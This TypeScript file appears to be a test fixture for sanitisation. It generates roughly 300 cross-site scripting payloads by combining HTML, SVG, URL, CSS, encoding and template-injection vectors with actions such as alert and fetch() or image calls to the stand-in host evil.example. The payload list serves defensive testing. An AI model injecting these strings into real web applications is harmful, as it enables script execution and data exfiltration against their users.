/**
 * The host of the payloads in every text of every event: scripts that would call, and files that
 * would load.
 */
export const evilHost = 'evil.example'

const actions = [
  'alert(1)',
  'confirm(1)',
  'prompt(1)',
  `fetch('https://${evilHost}/fetch')`,
  `(new(Image)).src='https://${evilHost}/image'`,
]

// JS is replaced by the action, PATH by a file of the evil host, URL by its address.
const vectors = [
  '<script>JS</script>',
  '<ScRiPt >JS</sCrIpT >',
  '<script src=URL.js></script>',
  '<script type=module>import "URL.js"</script>',
  '"><script>JS</script>',
  "'><script>JS</script>",
  '</script><script>JS</script>',
  '</style><script>JS</script>',
  '</title></textarea><script>JS</script>',
  '--><script>JS</script>',
  ']]><script>JS</script>',
  '<img src=x onerror="JS">',
  '"><img src=x onerror="JS">',
  "'><img src=x onerror='JS'>",
  '<img/src=x/onerror="JS">',
  '<img src=URL.png>',
  '<img srcset="URL.png 1x">',
  '<IMG SRC=x ONERROR="JS" STYLE=position:fixed;inset:0>',
  '<<img src=x onerror="JS">>',
  '<svg onload="JS">',
  '<svg/onload="JS"/>',
  '<svg><script>JS</script></svg>',
  '<svg><image href=URL.png></svg>',
  '<svg><animate onbegin="JS" attributeName=x dur=1s></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=a onload=JS>#a"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror="JS">',
  '<noscript><p title="</noscript><img src=x onerror=JS>">',
  '<iframe src="javascript:JS"></iframe>',
  '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
  '<iframe src=URL.html></iframe>',
  '<object data="javascript:JS"></object>',
  '<embed src=URL.swf>',
  '<a href="javascript:JS" autofocus tabindex=1 onfocus="JS">x</a>',
  '<input autofocus onfocus="JS">',
  '<details open ontoggle="JS">x</details>',
  '<video autoplay><source onerror="JS"></video>',
  '<audio src=x onerror="JS"></audio>',
  '<body onload="JS"><marquee onstart="JS">x</marquee>',
  '<link rel=stylesheet href=URL.css>',
  '<link rel=preload as=image href=URL.png>',
  '<style>@import "URL.css"; * { background: url(URL.png) }</style>',
  '<div style="background: url(URL.png)">x</div>',
  '<meta http-equiv=refresh content="0;url=URL.html">',
  '<base href=URL/><form action=URL.html><button autofocus onfocus="JS">x</button></form>',
  'javascript:JS',
  ' \u0001javascript:JS',
  'java\tscript:JS',
  'data:text/html,<script>JS</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="JS"/>',
  'http://PATH.png',
  '//PATH.png',
  'url(URL.png)',
  'red; background: url(URL.png)',
  'red} * { background: url(URL.png) } a {',
  '&lt;img src=x onerror=&quot;JS&quot;&gt;&#60;script&#62;JS&#60;/script&#62;',
  '\\u003cscript\\u003eJS\\u003c/script\\u003e%3Cscript%3EJS%3C/script%3E',
  "{{constructor.constructor('JS')()}}${JS}#{JS}<%= JS %>",
  '\u202e<img src=x onerror="JS">\u0000<script>JS</script>',
  '__proto__"}]}; JS; //',
  '*/ JS; /*<template><img src=x onerror="JS"></template>',
]

/** Every vector with every action: 300. */
export const payloads: readonly string[] = vectors.flatMap((vector, index) =>
  actions.map((action, way) =>
    vector
      .replaceAll('JS', () => action)
      .replaceAll('URL', 'https://PATH')
      .replaceAll('PATH', `${evilHost}/${index}-${way}`),
  ),
)
